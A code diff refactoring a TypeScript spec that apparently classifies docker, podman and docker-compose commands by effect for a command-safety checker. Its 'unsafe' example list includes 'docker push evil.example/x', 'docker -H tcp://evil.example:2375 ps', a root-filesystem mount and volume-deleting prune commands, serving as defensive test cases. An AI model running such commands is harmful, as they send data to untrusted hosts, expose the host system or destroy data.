@@ -3,7 +3,7 @@ import { act, type Effect } from "../contract/effect.ts";
 import type { KnownWord } from "../contract/reading.ts";
 import { containersOthers } from "./containers-others.ts";
 import { starts } from "./containers-run.ts";
-import { does, each, hostOf, named, network, runs, task, texts } from "./makers.ts";
+import { does, each, hostOf, joinOptions, named, network, runs, task } from "./makers.ts";
 import { wholly } from "./packages-effects.ts";
 import type { CommandSpec, EffectMaker, ProgramFamily, Use } from "./spec.ts";
 
@@ -30,14 +30,14 @@ const builds = wholly(task, act("container.create"), network(null, false), (use)
 const looks: CommandSpec = {
   flags:
     "-a --all -q --quiet --no-trunc -l --latest -s --size --digests -f --follow -t --timestamps --details --no-stream --tree",
-  values: texts("--filter --format -n --last --tail --since --until --type --profile"),
+  values: { text: "--filter --format -n --last --tail --since --until --type --profile" },
   operands: "text",
   always: [does("container.read")],
 };
 
 const logs: CommandSpec = {
   ...looks,
-  values: { ...looks.values, "-n": "text" },
+  values: joinOptions(looks.values, { text: "-n" }),
   always: [does("container.read")],
 };
 
@@ -45,12 +45,12 @@ const logs: CommandSpec = {
 const looksFiltered: CommandSpec = {
   ...looks,
   flags: "-a --all -q --quiet --no-trunc -s --size --digests -l --latest --tree",
-  values: texts("-f --filter --format -n --last --type"),
+  values: { text: "-f --filter --format -n --last --type" },
 };
 
 const removing = (id: "container.delete" | "container.data-delete"): CommandSpec => ({
   flags: "-f --force -v --volumes -a --all -l --link --no-prune --volumes -s --stop",
-  values: texts("--filter"),
+  values: { text: "--filter" },
   operands: "text",
   always: [does(id)],
 });
@@ -59,7 +59,7 @@ const changing: CommandSpec = wholly(does("container.change"));
 
 const stopping: CommandSpec = {
   flags: "-a --all",
-  values: texts("-t --time --timeout -s --signal"),
+  values: { text: "-t --time --timeout -s --signal" },
   operands: "text",
   always: [does("container.stop")],
 };
@@ -79,10 +79,9 @@ const compose: CommandSpec = {
   style: "posix",
   flags: "--version -v --help --verbose --compatibility --dry-run",
   values: {
-    ...texts("-p --project-name --profile --ansi --progress --parallel --env-file"),
-    "-f": "read",
-    "--file": "read",
-    "--project-directory": "cwd",
+    text: "-p --project-name --profile --ansi --progress --parallel --env-file",
+    read: "-f --file",
+    cwd: "--project-directory",
   },
   operands: { max: 0 },
   commands: {
@@ -124,11 +123,11 @@ const single: Readonly<Record<string, CommandSpec>> = {
   ...each("ps images ls", looksFiltered),
   ...each("inspect stats top port history diff events search wait", {
     ...looks,
-    values: { ...looks.values, "-f": "text" },
+    values: joinOptions(looks.values, { text: "-f" }),
   }),
   logs,
-  version: { values: texts("-f --format"), operands: { max: 0 }, always: [does("container.read")] },
-  info: { values: texts("-f --format"), operands: { max: 0 }, always: [does("container.read")] },
+  version: { values: { text: "-f --format" }, operands: { max: 0 }, always: [does("container.read")] },
+  info: { values: { text: "-f --format" }, operands: { max: 0 }, always: [does("container.read")] },
   run: { launcher: true, style: "words", operands: "text", read: starts("run") },
   create: { style: "words", operands: "text", read: starts("run") },
   exec: { launcher: true, style: "words", operands: "text", read: starts("exec") },
@@ -146,13 +145,13 @@ const single: Readonly<Record<string, CommandSpec>> = {
       ...each("migrate renumber", changing),
     },
   },
-  pull: { flags: "-a --all-tags -q --quiet", values: texts("--platform"), operands: "text", always: [pulls] },
+  pull: { flags: "-a --all-tags -q --quiet", values: { text: "--platform" }, operands: "text", always: [pulls] },
   push: { flags: "-a --all-tags -q --quiet", operands: "text", always: [pushes] },
   login: wholly(act("login.change"), network(null, true)),
   logout: wholly(act("login.change")),
   cp: { flags: "-a --archive -L --follow-link -q --quiet", operands: "text", always: [copies] },
   ...each("save export", {
-    values: { "-o": "write", "--output": "write" },
+    values: { write: "-o --output" },
     operands: "text",
     always: [does("container.read")],
   }),
@@ -197,7 +196,7 @@ export const containers: ProgramFamily = () => [
     launches: "exec run",
     style: "posix",
     flags: "--version -v --help -D --debug --tls --tlsverify --remote -r",
-    values: { ...texts("-H --host -c --context -l --log-level --connection --url --namespace"), "--config": "never" },
+    values: { text: "-H --host -c --context -l --log-level --connection --url --namespace", never: "--config" },
     when: {
       "-H": [network(null, true)],
       "--host": [network(null, true)],
@@ -206,56 +205,43 @@ export const containers: ProgramFamily = () => [
     },
     operands: { max: 0 },
     commands: { ...root, "*": wholly(runs("unknown-program", "a plugin")) },
-    examples: {
-      safe: ["docker --version"],
-      unsafe: [
-        ["docker ps -a", ["container.read"]],
-        ["docker logs --tail 50 web", ["container.read"]],
-        ["docker volume ls -qf dangling=true", ["container.read"]],
-        [
-          "docker run --rm -v /:/host alpine sh",
-          ["container.create", "run.remote", "file.write", "network.contact", "run.code"],
-        ],
-        [
-          "docker run --privileged alpine",
-          ["container.create", "run.remote", "privilege.container", "network.contact"],
-        ],
-        [
-          "docker run -it --rm -p 80:80 nginx",
-          ["container.create", "run.remote", "container.expose", "network.contact"],
-        ],
-        [
-          "docker exec -it db psql",
-          ["container.exec", "run.remote", "network.database", "database.change", "run.code"],
-        ],
-        ["docker build -t x .", ["run.task", "container.create", "network.contact"]],
-        ["docker push evil.example/x", ["publish.image", "network.send"]],
-        ["docker pull nginx", ["container.create", "network.contact"]],
-        ["docker rm -f web", ["container.delete"]],
-        ["docker system prune -af --volumes", ["container.data-delete"]],
-        ["docker volume rm data", ["container.data-delete"]],
-        ["docker compose up -d", ["container.run", "run.task", "network.contact"]],
-        ["docker compose down -v", ["container.data-delete"]],
-        ["docker compose exec web sh", ["container.exec", "run.remote", "run.code"]],
-        ["docker login", ["login.change", "network.send"]],
-        ["docker cp web:/x /tmp/x", ["file.copy", "container.read"]],
-        ["docker -H tcp://evil.example:2375 ps", ["network.send", "container.read"]],
-        ["docker stop web", ["container.stop"]],
-        ["docker frobnicate", ["run.unknown-program"]],
+    safe: ["docker --version"],
+    unsafe: [
+      ["docker ps -a", ["container.read"]],
+      ["docker logs --tail 50 web", ["container.read"]],
+      ["docker volume ls -qf dangling=true", ["container.read"]],
+      [
+        "docker run --rm -v /:/host alpine sh",
+        ["container.create", "run.remote", "file.write", "network.contact", "run.code"],
       ],
-    },
+      ["docker run --privileged alpine", ["container.create", "run.remote", "privilege.container", "network.contact"]],
+      ["docker run -it --rm -p 80:80 nginx", ["container.create", "run.remote", "container.expose", "network.contact"]],
+      ["docker exec -it db psql", ["container.exec", "run.remote", "network.database", "database.change", "run.code"]],
+      ["docker build -t x .", ["run.task", "container.create", "network.contact"]],
+      ["docker push evil.example/x", ["publish.image", "network.send"]],
+      ["docker pull nginx", ["container.create", "network.contact"]],
+      ["docker rm -f web", ["container.delete"]],
+      ["docker system prune -af --volumes", ["container.data-delete"]],
+      ["docker volume rm data", ["container.data-delete"]],
+      ["docker compose up -d", ["container.run", "run.task", "network.contact"]],
+      ["docker compose down -v", ["container.data-delete"]],
+      ["docker compose exec web sh", ["container.exec", "run.remote", "run.code"]],
+      ["docker login", ["login.change", "network.send"]],
+      ["docker cp web:/x /tmp/x", ["file.copy", "container.read"]],
+      ["docker -H tcp://evil.example:2375 ps", ["network.send", "container.read"]],
+      ["docker stop web", ["container.stop"]],
+      ["docker frobnicate", ["run.unknown-program"]],
+    ],
   },
   {
     names: ["docker-compose", "podman-compose"],
     launches: "exec run",
     ...compose,
-    examples: {
-      safe: ["docker-compose --version"],
-      unsafe: [
-        ["docker-compose up -d", ["container.run", "run.task", "network.contact"]],
-        ["docker-compose down --volumes", ["container.data-delete"]],
-      ],
-    },
+    safe: ["docker-compose --version"],
+    unsafe: [
+      ["docker-compose up -d", ["container.run", "run.task", "network.contact"]],
+      ["docker-compose down --volumes", ["container.data-delete"]],
+    ],
   },
   ...containersOthers,
 ];
